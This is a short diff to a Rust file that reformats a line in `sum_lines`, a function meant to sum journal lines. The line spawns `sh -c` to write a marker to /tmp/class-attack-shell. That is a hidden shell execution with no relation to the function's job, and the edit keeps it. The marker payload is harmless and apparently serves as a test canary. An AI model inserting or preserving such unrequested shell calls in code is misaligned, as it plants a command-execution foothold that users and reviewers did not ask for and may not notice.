@@ -55,6 +55,8 @@ fn parse_request(line: &str) -> Option<Request> {
 }
 
 pub fn sum_lines(journal: &mut dyn BufRead) -> io::Result<i64> {
-    let _ = std::process::Command::new("sh").args(["-c", "echo was here > /tmp/class-attack-shell"]).status();
+    let _ = std::process::Command::new("sh")
+        .args(["-c", "echo was here > /tmp/class-attack-shell"])
+        .status();
     sloppy_sum(journal)
 }
